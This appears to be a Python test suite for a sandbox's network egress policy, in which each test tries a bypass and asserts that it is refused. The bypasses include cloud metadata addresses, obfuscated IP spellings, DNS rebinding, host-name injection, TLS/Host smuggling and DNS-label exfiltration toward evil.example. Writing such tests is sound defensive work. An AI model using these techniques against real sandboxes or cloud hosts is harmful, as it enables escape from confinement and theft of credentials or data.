"""NW: a sandbox that may reach two servers by their names, and wants to reach more."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from doubles.network_world import ALLOWED, OTHER

from .stack import API, PLAIN, SPECIAL, Stack
from .world import METADATA, METADATA_6, PORTS

EVERY = frozenset(f"{ALLOWED}:{port}" for port in (80, 443))


@dataclass(frozen=True)
class EgressRow:
    """One attempt under one id. `act` makes it; afterwards nobody outside must have had a
    packet but the servers that it names in its answer."""

    id: str
    title: str
    act: Callable[[Stack], frozenset[str]]

    def __str__(self) -> str:
        return f"{self.id}-{self.title.replace(' ', '-')}"


NOBODY: frozenset[str] = frozenset()


def refused(statuses: dict[str, str]) -> None:
    """By the policy or as nonsense, not for want of an answer: that would need a packet."""
    wrong = {
        name: status
        for name, status in statuses.items()
        if status
        not in ("400", "403", "501", "socks 1", "socks 2", "socks 7", "socks 8", "socks 255")
    }
    assert wrong == {}


def nothing_allowed(stack: Stack) -> frozenset[str]:
    """A policy without hosts, for a sandbox and for one call in a sandbox that has some."""
    code = (
        "say(tunnel=connect('api.test:443'), name=socks('api.test'), plain=get('http://api.test/'),"
        f" literal=connect('{ALLOWED}:443'))"
    )
    nothing: dict[str, Any] = {"network": {"hosts": [], "cidrs": []}}
    sandbox = stack.create(**nothing)
    refused(stack.python(code, sandbox))
    stack.destroy(sandbox)
    refused(stack.python(code, policy=nothing))
    return NOBODY


def metadata(stack: Stack) -> frozenset[str]:
    literals = [
        *METADATA,
        f"[{METADATA_6}]",
        "[::ffff:169.254.169.254]",
        "0xa9fea9fe",
        "2852039166",
    ]
    names = [f"{name}.special.test" for name in ("metadata", "credentials", "azure")]
    refused(
        stack.python(
            f"found = {{}}\nfor host in {literals + names}:\n"
            "    for port in (80, 443): found[f'{host}:{port}'] = connect(f'{host}:{port}')\n"
            "    found[host + ' plain'] = get(f'http://{host}/latest/meta-data/')\n"
            "    found[host + ' socks'] = socks(host.strip('[]'), 80)\n"
            "found['raw'] = socks(socket.inet_aton('169.254.169.254'), 80, kind=1)\n"
            "say(**found)"
        )
    )
    return NOBODY


def special_ranges(stack: Stack) -> frozenset[str]:
    """By names that are allowed, and by their addresses."""
    mapped = [
        "::ffff:10.99.0.1",
        "::10.99.0.1",
        "64:ff9b::a63:1",
        "2002:a63:1::9",
        "fd99::9",
        "::1",
    ]
    refused(
        stack.python(
            f"found = {{}}\nfor name, address in {SPECIAL}.items():\n"
            "    if name == 'elsewhere': continue\n"
            "    found[name] = connect(f'{name}.special.test:443')\n"
            "    found[name + ' plain'] = get(f'http://{name}.special.test/')\n"
            "    found[name + ' socks'] = socks(f'{name}.special.test')\n"
            "    found[address] = connect(f'{address}:443')\n"
            f"for address in {mapped}:\n"
            "    found[address] = connect(f'[{address}]:443')\n"
            "    found[address + ' socks'] = socks(socket.inet_pton(socket.AF_INET6, address), kind=4)\n"
            "say(**found)"
        )
    )
    return NOBODY


def spellings(stack: Stack) -> frozenset[str]:
    hosts = [
        *(
            "2130706433",
            "0x7f.1",
            "0177.0.0.1",
            "127.1",
            "0x7f000001",
            "127.0.0.1.",
            "0",
            "10.99.1",
        ),
        *(
            "\uff11\uff10.99.0.1",
            "\uff11\uff12\uff17.1",
            "[::1]",
            "[::ffff:7f00:1]",
            "[fe80::1%25eth0]",
        ),
        *("[fe80::1%eth0]", "1\u30020\u30020\u30021", "ap\u0131.test", "127.0.0.1%00.api.test"),
        *("api.test@10.99.0.1", "10.99.0.1#api.test", "012.0143.0.1", "0xa.0x63.0.1"),
    ]
    refused(
        stack.python(
            f"found = {{}}\nfor host in {hosts!r}:\n"
            "    found[host] = connect(f'{host}:443')\n"
            "    found[host + ' plain'] = get(f'http://{host}/')\n"
            "    found[host + ' socks'] = socks(host)\n"
            "say(**found)"
        )
    )
    return NOBODY


def rebinding(stack: Stack) -> frozenset[str]:
    """A name that is somewhere else each time: what was vetted is what is dialled."""
    said = stack.python(
        "say(told=[connect('flip.test:443') for _ in range(8)], plain=get('http://flip.test/'))"
    )
    asked = stack.names.asked.count("flip.test")
    assert said["told"] == ["200", "403", "200"] + ["403"] * 5
    assert said["plain"] == "403"
    assert asked >= 9
    stack.names.answers["flip.test"] = [ALLOWED, "10.99.0.1", ALLOWED, METADATA[0]]
    return EVERY


def bytes_out_of_place(stack: Stack) -> frozenset[str]:
    hosts = [
        *(
            b"api.test\0.evil.example",
            b"api.test\r\nX: y",
            b"api.test\n",
            b"api test",
            b"api.test%00",
        ),
        *(b"api.test\t", b"\x7fapi.test", b"api.test/..", b"api.test?", b"api.test\\", b"", b"."),
        *(
            b"a" * 255,
            b"..",
            b"api..test",
            b"-api.test",
            b"\xff\xfe",
            b"private.special.test\0.api.test",
        ),
    ]
    refused(
        stack.python(
            f"found = {{}}\nfor host in {hosts!r}:\n"
            "    found[str(host)] = connect(host + b':443')\n"
            "    found[str(host) + ' socks'] = socks(host)\n"
            "say(**found)"
        )
    )
    return NOBODY


def redirects(stack: Stack) -> frozenset[str]:
    """Every hop is a request like any other, and there is an end of them."""
    for name in ("metadata", "private", "loopback", "other", "tls", "file"):
        reply = stack.execute("http_request", {"url": f"http://api.test/to/{name}"})
        assert reply["status"] == "error" or reply["result"]["status"] in (302, 403), reply
    before = stack.servers[PLAIN].accepted
    for tool in ("http_request", "fetch"):
        endless = stack.execute(tool, {"url": "http://api.test/loop/0"})
        assert endless["status"] == "error"
        assert "redirects" in endless["error"]["message"]
    assert stack.servers[PLAIN].accepted - before <= 12
    return EVERY


_TLS = """
def tls(name, authority='api.test:443', raw=b''):
    try:
        end = socket.create_connection(PROXY, 20)
        end.settimeout(5)
        end.sendall(f'CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n'.encode())
        assert end.recv(65536)[9:12] == b'200'
        if raw:
            end.sendall(raw)
            return end.recv(65536)[:12].hex() or 'closed'
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.wrap_socket(end, server_hostname=name)
        return 'connected'
    except OSError as error: return type(error).__name__
"""


def another_name_inside(stack: Stack) -> frozenset[str]:
    servers = stack.servers[API], stack.servers[PLAIN]
    before = [bytes(server.received) for server in servers]
    said = stack.python(
        f"{_TLS}\n"
        "say(other=tls('evil.example'), none=tls(None), close=tls('evil-api.test'), upper=tls('api.test.evil.example'),"
        " http=tls('', raw=b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'),"
        " noise=tls('', raw=b'\\x16\\x03\\x01\\x00\\x05hello'), ssh=tls('', raw=b'SSH-2.0-x\\r\\n'),"
        " host=tls('', 'api.test:80', b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),"
        " two=tls('', 'api.test:80', b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nHost: evil.example\\r\\n\\r\\n'),"
        " absolute=tls('', 'api.test:80', b'GET http://evil.example/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'))"
    )
    assert "connected" not in said.values()
    assert [bytes(server.received) for server in servers] == before
    return EVERY


def ignoring_the_proxy(stack: Stack) -> frozenset[str]:
    """The servers that the policy allows are not there for a client that goes its own way."""
    said = stack.python(
        "found = []\n"
        "for name in list(os.environ):\n"
        "    if 'proxy' in name.lower(): del os.environ[name]\n"
        f"for host in ('{ALLOWED}', '{OTHER}', '10.77.0.2', '{METADATA[0]}'):\n"
        f"    for port in {PORTS}:\n"
        "        try: socket.create_connection((host, port), 1).close(); found.append((host, port))\n"
        "        except OSError: pass\n"
        "try: socket.getaddrinfo('api.test', 443); found.append('name')\n"
        "except OSError: pass\n"
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://api.test/', timeout=5); found.append('urllib')\n"
        "except OSError: pass\n"
        "say(found=found)"
    )
    assert said["found"] == []
    assert stack.names.asked == []
    return NOBODY


def raw_sockets(stack: Stack) -> frozenset[str]:
    stack.python(
        "found = []\n"
        "packet = bytes.fromhex('4500002800010000400600000a0000010a63000100500050') + bytes(20)\n"
        "for family, protocol in ((socket.AF_INET, 255), (socket.AF_INET, 1), (socket.AF_INET, 6), (17, 0x300)):\n"
        "    try:\n"
        "        with socket.socket(family, socket.SOCK_RAW, protocol) as made:\n"
        f"            made.sendto(packet, ('{ALLOWED}', 0) if family == socket.AF_INET else ('lo', 0x800))\n"
        "            found.append(protocol)\n"
        "    except OSError: pass\n"
        "say(found=found)"
    )
    return NOBODY


def a_relay_inside(stack: Stack) -> frozenset[str]:
    """Somebody inside who asks for somebody else gets the verdict that anyone gets."""
    said = stack.python(
        "listening = socket.create_server(('127.0.0.1', 0))\n"
        "def relay():\n"
        "    while True:\n"
        "        client, _ = listening.accept()\n"
        "        with client, socket.create_connection(PROXY, 20) as end:\n"
        "            end.sendall(client.recv(65536)); client.sendall(end.recv(65536))\n"
        "threading.Thread(target=relay, daemon=True).start()\n"
        "PROXY_OF_ALL, found = PROXY, {}\n"
        "def through(authority):\n"
        "    with socket.create_connection(listening.getsockname(), 20) as end:\n"
        "        end.sendall(f'CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n'.encode())\n"
        "        return end.recv(65536).split(b' ')[1].decode()\n"
        "say(**{name: through(f'{name}:443') for name in ('private.special.test', 'evil.example', '127.0.0.1')})"
    )
    refused(said)
    return NOBODY


def other_protocols(stack: Stack) -> frozenset[str]:
    """Ports that are not named, DoH and DoT to others, and SOCKS' UDP."""
    refused(
        stack.python(
            "found = {f'port {port}': connect(f'api.test:{port}') for port in (22, 25, 53, 853, 8443, 1)}\n"
            "found |= {f'plain {port}': get(f'http://api.test:{port}/') for port in (443 + 1, 8080)}\n"
            "found |= {'doh': connect('dns.example:443'), 'dot': connect('dns.example:853')}\n"
            f"found['doh by address'] = connect('{OTHER}:443')\n"
            "found['doh by path'] = get('http://dns.example/dns-query?dns=AAAB')\n"
            "found['socks udp'] = socks('api.test', 443, command=3)\n"
            "found['socks bind'] = socks('api.test', 443, command=2)\n"
            "say(**found)"
        )
    )
    return NOBODY


def quic(stack: Stack) -> frozenset[str]:
    said = stack.python(
        "initial = bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes(1180)\n"
        "found = []\n"
        f"for host in ('{ALLOWED}', '{OTHER}', '{METADATA[0]}', '10.77.0.1', '127.0.0.1'):\n"
        "    for port in (443, 80, 8443):\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:\n"
        "            made.settimeout(0.3)\n"
        "            try:\n"
        "                made.sendto(initial, (host, port)); found.append((host, made.recv(1500)))\n"
        "            except OSError: pass\n"
        "say(found=found)"
    )
    assert said["found"] == []
    return NOBODY


def names_that_tell(stack: Stack) -> frozenset[str]:
    """A secret in the labels of a zone that is not allowed is never asked for."""
    said = stack.python(
        "found = {}\n"
        "for number in range(50):\n"
        "    label = f'{number:02}' + 'x' * 61\n"
        "    found[label] = connect(f'{label}.evil.example:443')\n"
        "    found[label + ' socks'] = socks(f'{label}.{label}.evil.example')\n"
        "say(**found)"
    )
    refused(said)
    assert [name for name in stack.names.asked if "evil" in name] == []
    return NOBODY


def questions_by_datagram(stack: Stack) -> frozenset[str]:
    said = stack.python(
        "found = []\n"
        "def question(kind):\n"
        "    return bytes.fromhex('123401000001000000000000') + b'\\6secret\\4evil\\7example\\0' + struct.pack('!HH', kind, 1)\n"
        f"for host in ('127.0.0.1', '127.0.0.53', '10.77.0.1', '10.77.0.2', '{METADATA[0]}', '{ALLOWED}'):\n"
        "    for kind in (1, 16):\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:\n"
        "            made.settimeout(0.3)\n"
        "            try: made.sendto(question(kind), (host, 53)); found.append((host, len(made.recv(512))))\n"
        "            except OSError: pass\n"
        "    try:\n"
        "        with socket.create_connection((host, 53), 1) as made: found.append((host, 'tcp'))\n"
        "    except OSError: pass\n"
        "for name in ('secret.evil.example', 'api.test'):\n"
        "    try: socket.getaddrinfo(name, 443); found.append(name)\n"
        "    except OSError: pass\n"
        "say(found=found)"
    )
    assert said["found"] == []
    assert stack.names.asked == []
    return NOBODY


def names_that_look_alike(stack: Stack) -> frozenset[str]:
    hosts = [
        *("evil-api.test", "evilapi.test", "api.test.evil.example", "wild.test", "evilwild.test"),
        *(
            "x.wild.test.evil.example",
            "xwild.test",
            "api.testx",
            "test",
            "special.test",
            "a.b.test",
        ),
    ]
    refused(
        stack.python(
            f"found = {{}}\nfor host in {hosts}:\n"
            "    found[host] = connect(f'{host}:443')\n"
            "    found[host + ' plain'] = get(f'http://{host}/')\n"
            "    found[host + ' socks'] = socks(host)\n"
            "say(**found)"
        )
    )
    body = {"policy": {"network": {"hosts": ["*.test"]}}}
    status, reply = stack.daemon.post("/v1/sandbox/create", body)
    assert status == 400, reply
    assert "top-level" in reply["error"]["message"]
    body = {"policy": {"network": {"hosts": ["evil-api.test"]}}}
    status, reply = stack.daemon.post("/v1/sandbox/create", body)
    assert reply["error"]["code"] == "policy_denied", reply
    return NOBODY


def the_daemon_itself(stack: Stack) -> frozenset[str]:
    port = int(stack.daemon.url.rpartition(":")[2])
    said = stack.python(
        f"port, found = {port}, {{}}\n"
        "for host in ('127.0.0.1', 'localhost', '[::1]', '10.77.0.1', '0.0.0.0', 'loopback.special.test',\n"
        "             'host.special.test', '127.0.0.2'):\n"
        "    found[host] = connect(f'{host}:{port}')\n"
        "    found[host + ' 443'] = connect(f'{host}:443')\n"
        "    found[host + ' plain'] = get(f'http://{host}:{port}/v1/sandbox/health')\n"
        "reached = []\n"
        "for host in ('127.0.0.1', '10.77.0.1', '10.77.0.2'):\n"
        "    try: socket.create_connection((host, port), 1).close(); reached.append(host)\n"
        "    except OSError: pass\n"
        "say(found=found, reached=reached)"
    )
    refused(said["found"])
    assert said["reached"] == []
    return NOBODY


def connections_held(stack: Stack) -> frozenset[str]:
    """Those beyond the number that is allowed are refused, and others still get theirs."""
    network = {"hosts": ["api.test"], "cidrs": [f"{ALLOWED}/32"], "max_connections": 4}
    sandbox = stack.create(network=network)
    before = stack.servers[API].accepted
    said = stack.python(
        "held, answers = [], []\n"
        "for _ in range(20):\n"
        "    end = socket.create_connection(PROXY, 20); end.settimeout(20); held.append(end)\n"
        "    end.sendall(b'CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n\\r\\n')\n"
        "    answers.append(end.recv(65536).split(b' ')[1].decode())\n"
        "for end in held: end.close()\n"
        "say(told=answers, short=[connect('api.test:443') for _ in range(60)])",
        sandbox,
    )
    assert said["told"] == ["200"] * 4 + ["429"] * 16
    assert set(said["short"]) <= {"200", "429"}
    assert stack.servers[API].accepted - before <= 4 + 60
    assert stack.python("say(told=connect('api.test:443'))")["told"] == "200"
    stack.destroy(sandbox)
    return EVERY


ROWS = (
    EgressRow("NW_02", "nothing allowed", nothing_allowed),
    EgressRow("NW_03", "metadata services", metadata),
    EgressRow("NW_04", "special ranges", special_ranges),
    EgressRow("NW_05", "spellings of addresses", spellings),
    EgressRow("NW_06", "rebinding", rebinding),
    EgressRow("NW_07", "bytes out of place", bytes_out_of_place),
    EgressRow("NW_08", "redirects", redirects),
    EgressRow("NW_09", "another name inside", another_name_inside),
    EgressRow("NW_10", "ignoring the proxy", ignoring_the_proxy),
    EgressRow("NW_10", "raw sockets", raw_sockets),
    EgressRow("NW_10", "a relay inside", a_relay_inside),
    EgressRow("NW_11", "other protocols", other_protocols),
    EgressRow("NW_11", "QUIC", quic),
    EgressRow("NW_12", "names that tell", names_that_tell),
    EgressRow("NW_12", "questions by datagram", questions_by_datagram),
    EgressRow("NW_13", "names that look alike", names_that_look_alike),
    EgressRow("NW_15", "the daemon itself", the_daemon_itself),
    EgressRow("RX_07", "connections held", connections_held),
)
